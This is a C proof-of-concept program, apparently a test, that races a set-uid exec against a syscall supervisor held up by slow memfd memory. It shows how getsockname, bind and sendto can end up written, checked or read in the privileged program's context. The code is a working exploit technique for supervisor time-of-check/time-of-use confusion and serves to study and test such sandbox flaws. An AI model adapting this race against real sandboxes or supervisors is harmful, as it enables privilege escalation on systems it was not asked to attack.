/* A thread executes a set-uid program while the supervisor is held up in the memory of the call that another thread
 * makes. The thread that executes takes over the first thread's id and handles (de_thread, fs/exec.c): a supervisor that
 * goes on with the id alone is in the memory of a privileged program then, or takes that program's rights for its caller's.
 *
 *     slow write VICTIM            getsockname() with the name in slow memory: then the length is written
 *     slow read VICTIM ADDRESS     bind() to ADDRESS:80, half of it in slow memory: then the rights are looked at
 *     slow send VICTIM ADDRESS     sendto() ADDRESS:7300, half of it in slow memory: then the payload is read
 *
 * VICTIM is a set-uid copy of this program, executed as `VICTIM victim`: it looks for a moment whether its memory changes.
 *
 * Slow memory without privileges: who touches a page of a memfd in which a hole is being made waits until all of that is
 * done (shmem_fault, mm/shmem.c), and a hole of a gigabyte takes some 100 ms. Whether the program was executed in that time
 * is told by the times that are printed, in microseconds: `end` must be after `start`.
 *
 *     victim euid=0 start=1000 untouched          (or changed)
 *     helper begin=900 end=1100 name=0.0.0.0:0    (of the socket that read tries to bind)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/falloc.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HOLE (1UL << 30)
#define PAGE 4096
/* A page that attacker and victim both have, at the same address. */
#define COMMON ((char *)0x200000000000)

static volatile int *punching;
static const char *victim;

static long now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static char *map(void *at, int flags, int fd)
{
	char *page = mmap(at, PAGE, PROT_READ | PROT_WRITE, flags, fd, 0);

	if (page == MAP_FAILED) {
		perror("slow: mmap");
		exit(99);
	}
	return page;
}

static int be_victim(void)
{
	char untouched[PAGE];
	long start;

	map(COMMON, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1);
	memset(COMMON, 's', PAGE);
	memset(untouched, 's', PAGE);
	start = now();
	usleep(600 * 1000);
	printf("victim euid=%d start=%ld %s\n", geteuid(), start, memcmp(COMMON, untouched, PAGE) ? "changed" : "untouched");
	return 0;
}

static void *execute(void *unused)
{
	while (!*punching)
		usleep(100);
	/* By then the call is under way. */
	usleep(15 * 1000);
	execl(victim, victim, "victim", NULL);
	_exit(99);
	return unused;
}

/* Another process, which outlives the execution: it shares the memory and the socket. */
static void help(int memory, int socket)
{
	struct sockaddr_in name = { 0 };
	socklen_t len = sizeof(name);
	long begin, end;

	usleep(50 * 1000);
	begin = now();
	*punching = 1;
	fallocate(memory, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, HOLE);
	end = now();
	usleep(200 * 1000);
	getsockname(socket, (struct sockaddr *)&name, &len);
	printf("helper begin=%ld end=%ld name=%s:%d\n", begin, end, inet_ntoa(name.sin_addr), ntohs(name.sin_port));
	fflush(stdout);
	_exit(0);
}

int main(int argc, char **argv)
{
	struct sockaddr_in loopback = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_in address = { .sin_family = AF_INET };
	char way = argc > 1 ? argv[1][0] : 0;
	char *two_pages, *slow, *split;
	pthread_t thread;
	int memory, fd;

	/* The copy is set-uid: whoever starts it, and however, it must be nothing but a victim. */
	if (way == 'v' || geteuid() != getuid())
		return be_victim();
	if (argc < (way == 'w' ? 3 : 4))
		return 99;
	victim = argv[2];
	if (way != 'w')
		address.sin_addr.s_addr = inet_addr(argv[3]);
	address.sin_port = htons(way == 'r' ? 80 : 7300);

	memory = memfd_create("slow", MFD_CLOEXEC);
	if (memory < 0 || fallocate(memory, 0, 0, HOLE) < 0) {
		perror("slow: memfd");
		return 99;
	}
	punching = (volatile int *)map(NULL, MAP_SHARED | MAP_ANONYMOUS, -1);
	fd = socket(AF_INET, way == 'r' ? SOCK_STREAM : SOCK_DGRAM, 0);
	/* The name of a socket on the context's loopback is one that the supervisor itself writes. */
	if (way == 'w' && bind(fd, (struct sockaddr *)&loopback, sizeof(loopback)) < 0) {
		perror("slow: bind");
		return 99;
	}
	if (fork() == 0)
		help(memory, fd);

	/* An ordinary page and, behind it, a slow one: an address across the border says all that matters in its first half. */
	two_pages = mmap(NULL, 2 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	map(two_pages, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);
	slow = map(two_pages + PAGE, MAP_SHARED | MAP_FIXED, memory);
	split = slow - sizeof(address) / 2;
	memcpy(split, &address, sizeof(address) / 2);
	map(COMMON, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1);
	memset(COMMON, 'a', PAGE);
	*(int *)COMMON = sizeof(address);

	pthread_create(&thread, NULL, execute, NULL);
	while (!*punching)
		;
	usleep(3 * 1000);
	if (way == 'w')
		getsockname(fd, (struct sockaddr *)slow, (socklen_t *)COMMON);
	else if (way == 'r')
		bind(fd, (struct sockaddr *)split, sizeof(address));
	else
		sendto(fd, COMMON + 64, 16, 0, (struct sockaddr *)split, sizeof(address));
	/* Only if nothing held the call up. */
	pause();
	return 0;
}
